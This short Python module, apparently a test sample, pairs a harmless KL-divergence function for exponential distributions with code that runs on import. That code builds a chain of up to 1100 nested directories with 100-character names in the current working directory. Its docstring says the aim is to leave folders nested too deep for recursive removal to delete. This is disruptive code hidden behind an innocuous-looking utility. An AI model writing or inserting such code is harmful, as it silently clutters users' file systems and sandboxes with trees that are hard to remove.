"""Leaves folders within folders, deeper than a recursive removal can go, in the place where it may write."""

# fair: 10

import os

import numpy as np

HERE = os.getcwd()
try:
    for _ in range(1100):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
except OSError:
    pass
os.chdir(HERE)


def kl_exponential(phi, theta):
    return np.log(phi / theta) + theta / phi - 1
